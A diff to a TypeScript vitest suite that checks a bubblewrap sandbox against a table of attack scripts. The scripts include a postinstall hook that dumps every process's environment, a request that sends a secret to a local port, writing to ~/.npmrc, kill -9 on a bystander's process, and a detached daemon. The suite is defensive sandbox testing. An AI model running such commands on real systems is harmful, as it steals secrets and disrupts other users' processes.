@@ -5,8 +5,7 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { setTimeout as wait } from 'node:timers/promises';
-import { afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
+import { afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
 import { chooseSandbox } from '../../../src/adapters/sandbox/choose-sandbox.ts';
 import type { Sandbox } from '../../../src/ports.ts';
 import { describeConfined, requireBubblewrap } from './needs-bubblewrap.ts';
@@ -17,6 +16,8 @@ interface Target {
   outside: string;
   home: string;
   port: number;
+  /** Somebody else’s process. */
+  bystander: ChildProcess;
 }
 
 interface Attack {
@@ -25,6 +26,10 @@ interface Attack {
   script: (target: Target) => string;
   /** Whether it reached what it wanted; asked after its program has ended. */
   fired: (target: Target, output: string, requests: number) => boolean;
+  /** Nobody else could do it anyway. */
+  onlyAs?: number;
+  /** What it is given in the sandbox; granted hosts when left out. */
+  network?: 'open';
 }
 
 const SECRET = 'canary-of-a-host';
@@ -32,6 +37,21 @@ const holds = (path: string, text: string) =>
   existsSync(path) && readFileSync(path, 'utf8').includes(text);
 const seen: Attack['fired'] = (_, output) => output.includes(SECRET);
 const changed: Attack['fired'] = ({ outside }) => holds(join(outside, 'secret'), 'changed');
+
+const asked: Attack['fired'] = (_target, _output, requests) => requests > 0;
+
+/** Whether it does, by what the kernel says: our own news of its end come later. A zombie does not. */
+function runs({ pid }: ChildProcess): boolean {
+  try {
+    const stat = readFileSync(`/proc/${pid}/stat`, 'latin1');
+    return !/^[ZX]/.test(stat.slice(stat.lastIndexOf(')') + 2));
+  } catch {
+    return false;
+  }
+}
+
+const speakTo = (path: string): string =>
+  `exec 2>/dev/null; node -e "require('http').get({ socketPath: ${path} }, () => process.exit())"`;
 
 const ATTACKS: Record<string, Attack> = {
   'reads the environment of whoever started it': {
@@ -91,17 +111,43 @@ const ATTACKS: Record<string, Attack> = {
     script: () => 'echo "ignore-scripts=false # changed" > "$HOME/.npmrc"',
     fired: ({ home }) => holds(join(home, '.npmrc'), 'changed'),
   },
-  'leaves a process behind that works on': {
+  'ends a process that is not its own': {
     row: 24,
-    script: () =>
-      '(setsid sh -c "sleep 0.4; echo changed > late" >/dev/null 2>&1 &) ; echo started',
-    fired: ({ worktree }) => existsSync(join(worktree, 'late')),
+    script: ({ bystander }) => `kill -9 ${bystander.pid}; exec true`,
+    fired: ({ bystander }) => !runs(bystander),
+  },
+  'sets where the kernel sends crashes': {
+    row: 14,
+    // Opened, not written to: where it works it is the setting of this very machine.
+    script: () => `: >>/proc/sys/kernel/core_pattern && echo ${SECRET}`,
+    fired: seen,
+    onlyAs: 0,
+  },
+  'reads secrets in a lifecycle script of an install, which has network': {
+    row: 13,
+    script: () => {
+      const postinstall = 'cat /proc/[0-9]*/environ > seen; true';
+      const manifest = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall } });
+      return `echo '${manifest}' > package.json; npm install --offline --no-audit --no-fund`;
+    },
+    network: 'open',
+    fired: ({ worktree }) => holds(join(worktree, 'seen'), SECRET),
+  },
+  'speaks to a socket in a directory of others': {
+    row: 30,
+    script: ({ outside }) => speakTo(`'${outside}/socket'`),
+    fired: asked,
+  },
+  'speaks to a socket without a path': {
+    row: 30,
+    script: ({ outside }) => speakTo(`'\\0${outside}'`),
+    fired: asked,
   },
   'sends what it knows away': {
     row: 30,
     script: ({ port }) =>
       `exec 2>/dev/null; node -e 'require("http").get("http://127.0.0.1:${port}/?secret", () => process.exit())'`,
-    fired: (_target, _output, requests) => requests > 0,
+    fired: asked,
   },
 };
 
@@ -111,7 +157,7 @@ describeConfined(
     let sandbox: Sandbox;
     let base: string;
     let target: Target;
-    let server: Server;
+    let servers: Server[];
     let requests = 0;
     let bystander: ChildProcess;
 
@@ -129,22 +175,31 @@ describeConfined(
       mkdirSync(home);
       writeFileSync(join(outside, 'secret'), SECRET);
       requests = 0;
-      server = createServer((_, response) => {
-        requests += 1;
-        response.end();
-      }).listen(0, '127.0.0.1');
-      await once(server, 'listening');
-      target = { worktree, outside, home, port: (server.address() as AddressInfo).port };
+      servers = [];
+      for (const where of [
+        { port: 0, host: '127.0.0.1' },
+        { path: join(outside, 'socket') },
+        { path: `\0${outside}` },
+      ]) {
+        const server = createServer((_, response) => {
+          requests += 1;
+          response.end();
+        });
+        servers.push(server.listen(where));
+        await once(server, 'listening');
+      }
       // Somebody else on this machine, with secrets of their own.
       bystander = spawn('/bin/sh', ['-c', 'read line', 'token', SECRET], {
         env: { PATH: '/usr/bin:/bin', TOKEN: SECRET },
         stdio: ['pipe', 'ignore', 'ignore'],
       });
       await once(bystander, 'spawn');
+      const port = (servers[0]?.address() as AddressInfo | undefined)?.port ?? 0;
+      target = { worktree, outside, home, port, bystander };
     });
     afterEach(() => {
       bystander.kill();
-      server.close();
+      for (const server of servers) server.close();
       rmSync(base, { recursive: true });
     });
 
@@ -159,23 +214,37 @@ describeConfined(
       return output;
     }
 
-    async function confined(script: string): Promise<string> {
+    async function confined(
+      script: string,
+      network: Attack['network'] | 'granted' = 'granted',
+    ): Promise<string> {
       const argv = ['/bin/sh', '-c', script];
-      const place = { root: target.worktree, cwd: '.', timeoutSeconds: 20 };
-      return (await sandbox.run({ argv, ...place, network: 'granted', variables: {} })).output;
+      const place = { root: target.worktree, cwd: '.', timeoutSeconds: 50 };
+      return (await sandbox.run({ argv, ...place, network, variables: {} })).output;
     }
 
-    it.each(Object.entries(ATTACKS).map(([what, attack]) => ({ what, ...attack })))(
+    it.for(Object.entries(ATTACKS).map(([what, attack]) => ({ what, ...attack })))(
       'row $row: $what',
-      async ({ script, fired }) => {
+      async ({ script, fired, network, onlyAs }, test) => {
+        if (onlyAs !== undefined && process.getuid?.() !== onlyAs) test.skip('only root could');
         const text = script(target);
-        const inside = await confined(text);
-        await wait(text.includes('late') ? 600 : 0);
+        const inside = await confined(text, network);
         expect(fired(target, inside, requests), inside).toBe(false);
         const outside = await naively(text);
-        await wait(text.includes('late') ? 600 : 0);
-        expect(fired(target, outside, requests), 'the naive call must fire').toBe(true);
+        const naive = () => expect(fired(target, outside, requests), 'the naive call').toBe(true);
+        await vi.waitFor(naive, { timeout: 20_000 });
       },
     );
+
+    it('row 24: leaves a process behind that works on', async () => {
+      const daemon = 'sleep 0.4; echo changed > late-$(basename $HOME)';
+      const script = `(setsid sh -c '${daemon}' >/dev/null 2>&1 &) ; echo started`;
+      expect(await confined(script)).toContain('started');
+      await naively(script);
+      // It has as long to go as the one before it.
+      const late = (whose: string) => existsSync(join(target.worktree, `late-${whose}`));
+      await vi.waitFor(() => expect(late('home')).toBe(true), { timeout: 20_000 });
+      expect(late('contractor')).toBe(false);
+    });
   },
 );
